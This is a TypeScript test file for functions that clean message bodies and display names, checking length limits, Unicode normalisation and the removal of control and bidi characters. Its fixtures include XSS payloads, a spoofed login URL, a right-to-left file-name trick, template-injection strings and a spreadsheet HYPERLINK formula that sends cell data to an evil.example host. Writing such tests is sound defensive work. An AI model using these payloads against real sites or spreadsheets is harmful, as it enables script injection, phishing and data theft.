import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { cleanBody, cleanLine } from './text.ts';

const body = (text: string, max = 4_000) => cleanBody(text, max);
const line = (text: string, max = 80) => cleanLine(text, max);
const ok = (text: string) => ({ ok: true, text });
const empty = { ok: false, code: 'empty' };
const tooLarge = { ok: false, code: 'too_large' };

describe('bodies', () => {
  test.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(document.domain)>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<select><button><selectedcontent></selectedcontent></button><option><img src=x onerror=alert(1)></select>',
    '[click](JaVa\tScRiPt:alert(1))',
    '[a][1]\n\n[1]: data:text/html,<script>alert(1)</script>',
    'https://bank.example@evil.example/login',
    'https://example.com/\u202egnp.exe',
    'if (a<b && c>d) { x &= 1 }',
    '\u0645\u0631\u062d\u0628\u0627 order #12, \u0634\u0643\u0631\u0627',
    'C:\\temp\\"new" \'x\'',
    '\u{1f469}\u{1f3fd}\u200d\u{1f692}',
    '@all @here @{{agent_name}} $\u007b7*7} {{agent.token}}',
    '__proto__',
    `a${'\n'.repeat(3_990)}b`,
    '=HYPERLINK("http://evil.example?x="&A1,"open")',
  ])('[C3] %j is text like any other and is kept as it is', (text) => {
    expect(body(text)).toEqual(ok(text));
  });

  test('[C3] CRLF and CR become LF; other control characters go, TAB stays', () => {
    expect(body('a\r\nb\rc\nd\te')).toEqual(ok('a\nb\nc\nd\te'));
    expect(body('Bob\u001b[2J\u0007\u0000\u0085\u009f!')).toEqual(ok('Bob[2J!'));
  });

  test('[C3] it is normalised to NFC and trimmed', () => {
    expect(body(' \n\te\u0301 \u00a0\n')).toEqual(ok('\u00e9'));
  });

  test.each([
    '',
    '   ',
    '\n\t\r\n',
    '\u00a0\u3000',
    '\u200b\u200c\u200d\u2060',
    '\u3164\u115f',
    '\u2800',
    '\u0000\u001b',
    '\u202e\u2066',
    '\ufeff',
  ])('[C3] nothing to see is left of %j: empty', (text) => {
    expect(body(text)).toEqual(empty);
  });

  test('[C3] the limit counts code points after cleaning', () => {
    expect(body('a'.repeat(4_000))).toEqual(ok('a'.repeat(4_000)));
    expect(body('a'.repeat(4_001))).toEqual(tooLarge);
    expect(body('\u{1f600}'.repeat(4_000)).ok).toBe(true);
    expect(body('\u{1f600}'.repeat(4_001))).toEqual(tooLarge);
    expect(body(`${' '.repeat(50)}${'a\r\n'.repeat(10)}`, 20)).toEqual(ok('a\n'.repeat(10).trim()));
    expect(body('e\u0301'.repeat(10), 10)).toEqual(ok('\u00e9'.repeat(10)));
  });

  test('[B1] a lone surrogate is replaced, should one ever come this far', () => {
    expect(body('a\ud800b')).toEqual(ok('a\ufffdb'));
  });
});

describe('lines', () => {
  test.each([
    '<img src=x onerror=alert(1)>',
    '" autofocus onfocus=alert(1) x="',
    '</script><script>alert(1)</script>',
    '\u0410dmin',
    'Support Team \u2714\ufe0f',
    '\uff33\uff55\uff50\uff50\uff4f\uff52\uff54',
    'constructor',
    '\u674e',
    "Sin\u00e9ad O'Neil-D\u2019Arcy",
  ])('[C3] the name %j is kept as it is', (text) => {
    expect(line(text)).toEqual(ok(text));
  });

  test.each([
    ['Ann\u202egnp.exe', 'Anngnp.exe'],
    ['\u2067Bob', 'Bob'],
    ['Bob\u001b[2J\u001b[1;1H', 'Bob[2J[1;1H'],
    ['Bob\nlevel=error msg=fake', 'Bob level=error msg=fake'],
    ['Bob\rroot logged in', 'Bob root logged in'],
    ['a\tb\u2028c', 'a b c'],
  ])('[C3] of the name %j, %j is kept', (text, kept) => {
    expect(line(text)).toEqual(ok(kept));
  });

  test('[C3] at most four marks stay on one letter', () => {
    const marks = (text: string): number => [...text].filter((c) => /\p{M}/u.test(c)).length;
    const cleaned = line(`e${'\u0301'.repeat(500)}x${'\u0323'.repeat(9)}`);
    expect(cleaned).toMatchObject({ ok: true });
    expect(cleaned.ok && marks(cleaned.text)).toBe(8);
  });

  test.each(['\u200b\u200c\u200d\u2060', '   \u00a0\u3000', '\u3164\u115f', '\u2800\u2800', '\u202e', '\u0000'])(
    '[C3] the name %j is empty',
    (text) => {
      expect(line(text)).toEqual(empty);
    },
  );

  test('[C3] 81 letters are too many where 80 are allowed', () => {
    expect(line('a'.repeat(80)).ok).toBe(true);
    expect(line('a'.repeat(81))).toEqual(tooLarge);
    expect(line('\u{1f600}'.repeat(10_000))).toEqual(tooLarge);
  });
});

test('[C3] cleaning what is clean changes nothing, whatever came in', () => {
  const anything = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.string({ unit: 'grapheme' }),
    fc.string({ unit: fc.constantFrom('\r', '\n', '\u0301', '\u202e', '\u200b', ' ', 'a', '\ud83d', '\u0000') }),
  );
  fc.assert(
    fc.property(anything, (text) => {
      for (const clean of [cleanBody, cleanLine]) {
        const once = clean(text, 1_000);
        if (!once.ok) continue;
        expect(clean(once.text, 1_000)).toEqual(once);
        expect(once.text.isWellFormed()).toBe(true);
        // biome-ignore lint/suspicious/noControlCharactersInRegex: none of them may be left
        expect(once.text).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f]/);
      }
    }),
  );
});
